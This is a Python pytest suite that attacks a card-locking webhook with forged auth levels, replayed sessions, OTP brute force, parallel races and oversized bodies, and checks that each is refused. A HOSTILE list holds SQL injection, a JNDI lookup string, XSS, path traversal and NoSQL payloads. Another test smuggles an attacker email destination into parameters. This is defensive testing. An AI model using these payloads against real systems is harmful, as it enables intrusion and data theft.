"""Attacks on the webhook, each proving the store did not change (or changed only its own defence bookkeeping).

The attacker is any DetectIntent client: it can set any session parameter, pick any session id, and send any
body. Only a code typed back in the same session proves anything.
"""
from __future__ import annotations

import json
import math
import re
import threading

import pytest
from sqlalchemy import select, update

from cardstore.models import AuditEvent, Customer, OtpChallenge
from tests.conftest import SESSION, Caller, cx_request
from tests.store_state import recorded, unchanged

HANAKO, ICHIRO, MISAKI = "09000001111", "09000002222", "09012345041"
EVERY_STRANGER_FIELD = ("鈴木", "高橋", "misaki.takahashi@example.jp", "hanako.sato@example.jp", "+819012345041",
                        "+819000002222")


def error_code(params: dict) -> str | None:
    assert set(params) <= {"transfer_reason", "webhook_error_code"} or "webhook_error_code" not in params
    return params.get("webhook_error_code")


def actions(changes: dict) -> list[str]:
    """The audit actions among the rows a block added."""
    column = [c.name for c in AuditEvent.__table__.columns].index("action")
    return [row[column] for row in changes["audit_events"]["added"]]


def wrong_code(phone) -> str:
    return "000000" if phone.last_code() != "000000" else "111111"


# --- forged parameters and borrowed sessions -----------------------------------------------------------------------

def test_forged_auth_level_opens_nothing(caller, store):
    """A fresh session that claims auth_level 1 can neither read cards nor lock, reissue or hand off one."""
    mallory = caller(HANAKO)
    with unchanged(store):
        assert error_code(mallory.call("get_card_details", auth_level=1.0)) == "AUTH_REQUIRED"
        assert error_code(mallory.call("validate_card", last_four_digit_of_card_number="4444",
                                       auth_level="1")) == "AUTH_REQUIRED"
        assert error_code(mallory.call("lock_card", last_four_digit_of_card_number="4444", lock_type="blocked",
                                       lock_reason="stolen", auth_level=1, otp_verified=True)) == "AUTH_REQUIRED"
        assert error_code(mallory.call("reissue_card", last_four_digit_of_card_number="4444", zip_code="12345",
                                       auth_level=1)) == "AUTH_REQUIRED"
        assert error_code(mallory.call("request_reactivation", last_four_digit_of_card_number="4444",
                                       auth_level=1)) == "AUTH_REQUIRED"


def test_trusted_upstream_auth_level_still_cannot_change_a_card(make_app, store_url, phone):
    """Even when reads trust an upstream auth_level, a lock needs a code verified in this session."""
    app = make_app(database_url=store_url, trust_upstream_auth_level=True)
    from webhook.app import service_of

    mallory = Caller(app.test_client(), phone, "upstream-forged", HANAKO)
    with unchanged(service_of(app).store):
        assert mallory.call("get_card_details", auth_level=1)["card_count"] == 4
        assert error_code(mallory.call("lock_card", last_four_digit_of_card_number="4444", lock_type="blocked",
                                       lock_reason="stolen", auth_level=1)) == "AUTH_REQUIRED"


def test_verified_session_cannot_speak_for_another_customer(caller, store):
    """Hanako verifies herself, then swaps phone_number to Ichiro's or Misaki's: nothing of theirs is reachable."""
    hanako = caller(HANAKO)
    hanako.authenticate()
    with unchanged(store):
        hanako.phone_number = ICHIRO
        assert error_code(hanako.call("get_card_details")) == "AUTH_REQUIRED"
        assert error_code(hanako.call("lock_card", last_four_digit_of_card_number="4444", lock_type="blocked",
                                      lock_reason="stolen")) == "AUTH_REQUIRED"
        hanako.phone_number = MISAKI
        assert error_code(hanako.call("request_reactivation", last_four_digit_of_card_number="1456")) == \
            "AUTH_REQUIRED"
        assert error_code(hanako.call("reissue_card", last_four_digit_of_card_number="1456",
                                      zip_code="12345")) == "AUTH_REQUIRED"


@pytest.mark.parametrize("stolen_session", [
    "attacker-session",
    "projects/other/locations/global/agents/other/sessions/{victim}",  # same session id, another agent
    "victim",  # the bare id without the project path
    "{victim} ",
    "{victim}/",
    "PROJECTS/DEMO/LOCATIONS/GLOBAL/AGENTS/LOCKCARD/SESSIONS/VICTIM",
])
def test_a_verified_session_is_not_reusable_from_another_session(client, phone, store, stolen_session):
    """Hanako's verified session id, replayed under another session path: AUTH_REQUIRED, nothing changes."""
    hanako = Caller(client, phone, "victim", HANAKO)
    hanako.authenticate()
    victim = SESSION + "victim"
    body = cx_request(Caller.TAGS["lock_card"], phone_number=HANAKO, last_four_digit_of_card_number="4444",
                      lock_type="blocked", lock_reason="stolen")
    body["sessionInfo"]["session"] = stolen_session.format(victim=victim)
    with unchanged(store):
        params = client.post("/webhook", json=body).get_json()["sessionInfo"]["parameters"]
    assert params["webhook_error_code"] == "AUTH_REQUIRED"


def test_a_card_of_another_customer_is_out_of_reach(caller, store):
    """Verified Hanako names Misaki's cards: not found for reads, CARD_NOT_FOUND for changes, nothing changes."""
    hanako = caller(HANAKO)
    hanako.authenticate()
    with unchanged(store):
        assert hanako.call("validate_card", last_four_digit_of_card_number="1457") == {
            "card_found": False, "zip_code": None, "card_vendor": None, "card_status": None}
        assert error_code(hanako.call("lock_card", last_four_digit_of_card_number="1457", lock_type="blocked",
                                      lock_reason="stolen")) == "CARD_NOT_FOUND"
        assert error_code(hanako.call("reissue_card", last_four_digit_of_card_number="1456",
                                      zip_code="12345")) == "CARD_NOT_FOUND"
        assert error_code(hanako.call("request_reactivation", last_four_digit_of_card_number="1456")) == \
            "CARD_NOT_FOUND"
        assert "1457" not in hanako.call("get_card_details")["last_four_digit_of_all_cards"]


# --- one-time codes --------------------------------------------------------------------------------------------------

def test_brute_force_within_a_challenge_dies_after_three_guesses(caller, phone, store):
    """Three wrong guesses kill the challenge; the right code after that verifies nothing. Only the defence's
    own bookkeeping is written: attempts on the challenge, the customer's failure count, and the audit rows."""
    mallory = caller(HANAKO)
    mallory.call("send_otp", otp_channel="sms")
    right, wrong = phone.last_code(), wrong_code(phone)
    with recorded(store) as changes:
        for _ in range(3):
            mallory.call("verify_otp", otp_code=wrong)
        assert mallory.call("verify_otp", otp_code=right)["otp_verified"] is False
        assert error_code(mallory.call("get_card_details")) == "AUTH_REQUIRED"
    assert set(changes) == {"otp_challenges", "customers", "audit_events", "throttle_counters"}
    assert actions(changes) == ["otp.failed"] * 3
    assert changes["customers"]["count"] == (3, 3)


def test_brute_force_across_challenges_is_throttled_and_never_disables_the_customer(caller, phone, store):
    """An anonymous brute-forcer's wrong codes over fresh sessions are throttled (growing delays, then the daily
    limit): refusals change only the throttles' bookkeeping, no guess is compared once throttled, and OTP is never
    disabled for Hanako (issue 12: a stranger must not lock her out) — her call from her own number verifies."""
    wrong_total = refused = 0
    for n in range(8):
        mallory = caller(HANAKO, session=f"brute-{n}")
        if error_code(mallory.call("send_otp", otp_channel="sms")) == "OTP_RATE_LIMITED":
            refused += 1
            continue
        for _ in range(3):
            if error_code(mallory.call("verify_otp", otp_code=wrong_code(phone))) == "OTP_RATE_LIMITED":
                refused += 1
            else:
                wrong_total += 1
    assert refused > 0 and wrong_total == 3  # three free wrong codes, then a 30 s wait (no time passes here)
    with store.unit_of_work() as uow:
        hanako = uow.session.scalars(select(Customer).where(Customer.phone_e164 == "+81" + HANAKO[1:])).one()
        assert hanako.otp_disabled_at is None
        assert not uow.session.scalars(select(AuditEvent).where(AuditEvent.action == "otp.disabled")).all()
    right = phone.last_code()
    mallory = caller(HANAKO, session="brute-0")
    with unchanged(store, except_tables=("throttle_counters",)):
        assert error_code(mallory.call("verify_otp", otp_code=right)) in (None, "OTP_RATE_LIMITED")
        assert error_code(caller(HANAKO).call("send_otp", otp_channel="sms")) == "OTP_RATE_LIMITED"
        assert error_code(mallory.call("lock_card", last_four_digit_of_card_number="4444", lock_type="blocked",
                                       lock_reason="stolen")) == "AUTH_REQUIRED"
    real_hanako = caller(HANAKO, caller_id="+819000001111")
    assert real_hanako.authenticate()["otp_verified"] is True
    # Other customers are not affected.
    assert caller(ICHIRO).authenticate()["otp_verified"] is True


def test_a_right_code_resets_the_consecutive_failures(make_app, store_url, phone):
    """Nine wrong codes, then the right one, then nine more: the class's count starts again after the right code, so
    the daily failure limit (ten) is never reached (delays and per-session limits set aside for this test)."""
    app = make_app(database_url=store_url, otp_send_limit=20, otp_daily_send_limit=20, otp_session_send_limit=20,
                   otp_session_failure_limit=50, throttle_free_events=50)
    hanako = Caller(app.test_client(), phone, "careless-hanako", HANAKO)

    def nine_wrong():
        for _ in range(3):
            hanako.call("send_otp", otp_channel="sms")
            for _ in range(3):
                assert "webhook_error_code" not in hanako.call("verify_otp", otp_code=wrong_code(phone))

    nine_wrong()
    assert hanako.authenticate()["otp_verified"] is True
    nine_wrong()
    assert hanako.authenticate()["otp_verified"] is True


def test_a_used_code_replayed_changes_nothing(caller, phone, store):
    """The code that verified Hanako, replayed in her session and in another: refused, nothing written."""
    hanako = caller(HANAKO, session="hanako")
    hanako.authenticate()
    code = phone.last_code()
    with unchanged(store):
        assert hanako.call("verify_otp", otp_code=code) == {"otp_verified": False, "otp_attempts_left": 0}
        replayer = caller(HANAKO, session="replayer")
        assert replayer.call("verify_otp", otp_code=code) == {"otp_verified": False, "otp_attempts_left": 0}
        assert error_code(replayer.call("get_card_details")) == "AUTH_REQUIRED"


def test_an_expired_code_verifies_nothing(caller, phone, store):
    """The right code, six minutes late: expired; only the challenge's status and its audit row change."""
    hanako = caller(HANAKO)
    hanako.call("send_otp", otp_channel="sms")
    with store.unit_of_work() as uow:
        uow.session.execute(update(OtpChallenge).values(expires_at=OtpChallenge.created_at))
        uow.commit()
    with recorded(store) as changes:
        assert hanako.call("verify_otp", otp_code=phone.last_code())["otp_expired"] is True
        assert hanako.call("verify_otp", otp_code=phone.last_code())["otp_verified"] is False
    assert set(changes) == {"otp_challenges", "audit_events"}
    assert actions(changes) == ["otp.expired"]


def test_codes_go_only_to_registered_destinations(caller, phone, store):
    """No e-mail on file: CHANNEL_NOT_REGISTERED for a verified session; an unverified one (which must not learn
    whether there is an address) is answered as if there were one, and nothing is sent; unknown channels:
    INVALID_PARAMETER; a destination smuggled in parameters is ignored — the code goes to the registered number
    only."""
    ichiro = caller(ICHIRO)
    assert ichiro.call("send_otp", otp_channel="email")["otp_sent"] is True
    assert phone.messages() == []
    ichiro.authenticate()
    with unchanged(store):
        assert error_code(ichiro.call("send_otp", otp_channel="email")) == "CHANNEL_NOT_REGISTERED"
        for channel in ("voice", "fax", "webhook", "sms,email", ""):
            assert error_code(ichiro.call("send_otp", otp_channel=channel)) == "INVALID_PARAMETER"
    sent = ichiro.call("send_otp", otp_channel="sms", email="mallory@evil.example", otp_destination="+15550100",
                       registered_phone="+15550100", to="mallory@evil.example")
    assert re.fullmatch(r"\*+2222", sent["otp_destination_masked"])
    assert {m["to"] for m in phone.messages()} == {"+819000002222"}


# --- hostile values in every parameter ---------------------------------------------------------------------------

HOSTILE = [
    "' OR '1'='1", "4444' --", "1; DROP TABLE cards; --", "4444\" OR \"\"=\"", "%", "_", "*", "\\", "\u0000",
    "${jndi:ldap://evil/a}", "{{7*7}}", "<script>alert(1)</script>", "../../etc/passwd", "４４４４\u200b",
    "A" * 10_000, "9" * 5000, {"$ne": None}, {"$gt": ""}, ["4444", "5555"], [], {}, True, None,
    10**30, -1, -1.0, 1e308, 4444.5, math.inf, math.nan,
]
PARAMETERS = {
    "verify_user": {"phone_number": HANAKO},
    "send_otp": {"phone_number": HANAKO, "otp_channel": "sms", "max_otp_retry_count": 3},
    "verify_otp": {"phone_number": HANAKO, "otp_code": "000000"},
    "get_card_details": {"phone_number": HANAKO, "auth_level": 1},
    "validate_card": {"phone_number": HANAKO, "last_four_digit_of_card_number": "4444", "auth_level": 1},
    "lock_card": {"phone_number": HANAKO, "last_four_digit_of_card_number": "5555", "lock_type": "blocked",
                  "lock_reason": "stolen"},
    "reissue_card": {"phone_number": HANAKO, "last_four_digit_of_card_number": "5555", "zip_code": "12345"},
    "request_reactivation": {"phone_number": HANAKO, "last_four_digit_of_card_number": "5555"},
}
ACCEPTABLE_ERRORS = {"INVALID_PARAMETER", "CUSTOMER_NOT_FOUND", "CARD_NOT_FOUND", "AUTH_REQUIRED",
                     "CHANNEL_NOT_REGISTERED", "OTP_RATE_LIMITED", "RATE_LIMITED", "INVALID_TRANSITION"}


def _hostile_requests():
    for action, params in PARAMETERS.items():
        for name in params:
            for value in HOSTILE:
                for where in ("session", "form"):
                    yield action, name, value, where


def test_hostile_values_in_every_parameter_change_nothing(client, phone, store):
    """SQL and JSON injection strings, over-long, non-finite and wrongly typed values in each parameter of each
    tag (as session or form parameters), from a verified session: a clear refusal, never a 500, nothing written,
    nothing echoed back."""
    hanako = Caller(client, phone, "hostile", HANAKO)
    # Arrange a session that can do everything but send another code: it verifies, asks twice more, and verifies
    # with its fourth code (a session may ask for four an hour), so a coerced-but-valid value cannot legitimately
    # write anything but a refusal's count.
    hanako.authenticate()
    for _ in range(2):
        hanako.call("send_otp", otp_channel="sms")
    hanako.authenticate()
    assert error_code(hanako.call("send_otp", otp_channel="sms")) == "OTP_RATE_LIMITED"
    # Lock and reissue are idempotent per session: run the valid ones first, so a value that is *accepted* as the
    # right one (e.g. 5555.0) only finds the ticket already there — any write then is a real finding.
    hanako.call("lock_card", **PARAMETERS["lock_card"])
    hanako.call("reissue_card", **PARAMETERS["reissue_card"])
    seen = 0
    with unchanged(store, except_tables=("throttle_counters",)):
        for action, name, value, where in _hostile_requests():
            params = dict(PARAMETERS[action])
            form = None
            if where == "session":
                params[name] = value
            else:
                form = {name: value}
            body = cx_request(Caller.TAGS[action], "hostile", form=form, **params)
            raw = json.dumps(body, allow_nan=True)
            response = client.post("/webhook", data=raw, content_type="application/json")
            text = response.get_data(as_text=True)
            assert response.status_code in (200, 400), (action, name, value, text)
            assert "Traceback" not in text and "sqlalchemy" not in text.lower()
            if isinstance(value, str) and len(value) > 3 and value not in ("4444", "5555"):
                assert value not in text, (action, name, value)
            if response.status_code == 200:
                out = response.get_json()["sessionInfo"]["parameters"]
                code = out.get("webhook_error_code")
                assert code is None or code in ACCEPTABLE_ERRORS, (action, name, value, out)
            seen += 1
    assert seen == sum(len(p) for p in PARAMETERS.values()) * len(HOSTILE) * 2


def test_hostile_session_paths_change_nothing(client, store):
    """Injection strings, 10 KB and control characters as the CX session path: refused or harmless."""
    with unchanged(store):
        for session in ("' OR 1=1 --", "x" * 10_000, "\u0000", "projects/../../sessions/*", "%"):
            body = cx_request(Caller.TAGS["lock_card"], phone_number=HANAKO, last_four_digit_of_card_number="4444",
                              lock_type="blocked", lock_reason="stolen")
            body["sessionInfo"]["session"] = session
            response = client.post("/webhook", json=body)
            assert response.status_code in (200, 400)
            if response.status_code == 200:
                assert response.get_json()["sessionInfo"]["parameters"]["webhook_error_code"] == "AUTH_REQUIRED"


# --- hostile bodies ----------------------------------------------------------------------------------------------

def test_a_two_megabyte_body_is_refused_unread(client, store):
    """2 MB of JSON: 413 JSON, nothing written."""
    body = cx_request(Caller.TAGS["verify_user"], phone_number=HANAKO, padding="x" * (2 * 1024 * 1024))
    with unchanged(store):
        response = client.post("/webhook", json=body)
    assert response.status_code == 413
    assert response.get_json()["error"]["code"] == "BODY_TOO_LARGE"


def test_a_deeply_nested_body_is_refused(client, store):
    """100,000 nested arrays (a parser stack bomb): 400 JSON, never a 500."""
    with unchanged(store):
        response = client.post("/webhook", data="[" * 100_000 + "]" * 100_000, content_type="application/json")
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "MALFORMED_REQUEST"


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                                          "application/xml", None])
def test_a_wrong_content_type_is_refused(client, store, content_type):
    """A CX body sent as anything but JSON: 415 JSON, nothing written."""
    body = json.dumps(cx_request(Caller.TAGS["verify_user"], phone_number=HANAKO))
    with unchanged(store):
        response = client.post("/webhook", data=body, content_type=content_type)
    assert response.status_code == 415
    assert response.get_json()["error"]["code"] == "UNSUPPORTED_MEDIA_TYPE"


# --- what the answers reveal -------------------------------------------------------------------------------------

def test_answers_reveal_no_more_than_the_flow_needs(caller, phone):
    """Over Hanako's whole dialog (and its failures): masked destinations only, no other customer's data, no
    names, no full e-mail address, no traceback or internals in any answer."""
    bodies: list[str] = []
    hanako = caller(HANAKO, caller_id="+819000001111")
    original = hanako.client.post

    def keep(*args, **kwargs):
        response = original(*args, **kwargs)
        bodies.append(response.get_data(as_text=True))
        return response

    hanako.client.post = keep
    hanako.call("verify_user")
    sent = hanako.call("send_otp", otp_channel="email")
    assert sent["otp_destination_masked"] is None  # not verified yet: no address, not even masked (issue 12)
    hanako.call("verify_otp", otp_code=wrong_code(phone))
    hanako.call("verify_otp", otp_code=phone.last_code())
    hanako.call("get_card_details")
    hanako.call("validate_card", last_four_digit_of_card_number="1457")
    hanako.call("validate_card", last_four_digit_of_card_number="4444")
    hanako.call("lock_card", last_four_digit_of_card_number="4444", lock_type="inactive", lock_reason="lost")
    hanako.call("lock_card", last_four_digit_of_card_number="4444", lock_type="inactive", lock_reason="bogus")
    hanako.call("reissue_card", last_four_digit_of_card_number="4444", zip_code="99999")
    hanako.call("reissue_card", last_four_digit_of_card_number="4444", zip_code="12345")
    everything = "\n".join(bodies)
    for secret in EVERY_STRANGER_FIELD + ("佐藤", "花子", phone.last_code()):
        assert secret not in everything, secret
    for internal in ("Traceback", "File \"", "sqlalchemy", "psycopg", "IntegrityError", "SELECT "):
        assert internal not in everything, internal


# --- brute force in parallel --------------------------------------------------------------------------------------
# On both stores: the throttle counters are row-locked on PostgreSQL; on SQLite a writing unit of work begins
# IMMEDIATE (cardstore/uow.py), so its read-check-write is atomic there too.

PARALLEL = dict(throttle_free_events=50, otp_session_failure_limit=50)  # only the per-customer limits in play


def test_parallel_guesses_from_many_sessions_are_all_counted(make_app, phone, store_url):
    """Five sessions guess in parallel, two wrong codes each, against a limit of seven: exactly seven are compared
    and counted, the other three refused — no guess slips past the limit through a lost update of the counter —
    and the customer is not disabled."""
    app = make_app(database_url=store_url, otp_failure_limit=7, **PARALLEL)
    sessions = [Caller(app.test_client(), phone, f"parallel-{n}", HANAKO) for n in range(5)]
    for s in sessions:
        assert s.call("send_otp", otp_channel="sms")["otp_sent"] is True
    wrong = wrong_code(phone)
    barrier = threading.Barrier(len(sessions))
    answers, errors = [], []

    def guess(session: Caller) -> None:
        try:
            barrier.wait()
            for _ in range(2):
                answers.append(session.call("verify_otp", otp_code=wrong))
        except BaseException as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    threads = [threading.Thread(target=guess, args=(s,)) for s in sessions]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not errors
    codes = sorted(str(error_code(a)) for a in answers)
    assert codes == ["None"] * 7 + ["OTP_RATE_LIMITED"] * 3, codes
    from webhook.app import service_of

    with service_of(app).store.unit_of_work() as uow:
        hanako = uow.session.scalars(select(Customer).where(Customer.phone_e164 == "+819000001111")).one()
        failed = uow.session.scalars(select(AuditEvent).where(AuditEvent.action == "otp.failed")).all()
        assert len(failed) == 7
        assert hanako.otp_failures == 7
        assert hanako.otp_disabled_at is None


def test_parallel_sends_cannot_exceed_the_send_limit(make_app, phone, store_url):
    """Eight sessions ask for a code at the same instant: at most five codes go out (the per-customer limit), so
    parallel sessions cannot buy extra challenges to guess with."""
    app = make_app(database_url=store_url, **PARALLEL)
    sessions = [Caller(app.test_client(), phone, f"flood-{n}", HANAKO) for n in range(8)]
    barrier = threading.Barrier(len(sessions))
    answers, errors = [], []

    def send(session: Caller) -> None:
        try:
            barrier.wait()
            answers.append(session.call("send_otp", otp_channel="sms"))
        except BaseException as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    threads = [threading.Thread(target=send, args=(s,)) for s in sessions]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not errors
    assert sum(a.get("otp_sent") is True for a in answers) == 5
    assert sum(a.get("webhook_error_code") == "OTP_RATE_LIMITED" for a in answers) == 3
    from webhook.app import service_of

    with service_of(app).store.unit_of_work() as uow:
        assert len(uow.session.scalars(select(OtpChallenge)).all()) == 5
    assert len([m for m in phone.messages() if m["kind"] == "otp"]) == 5
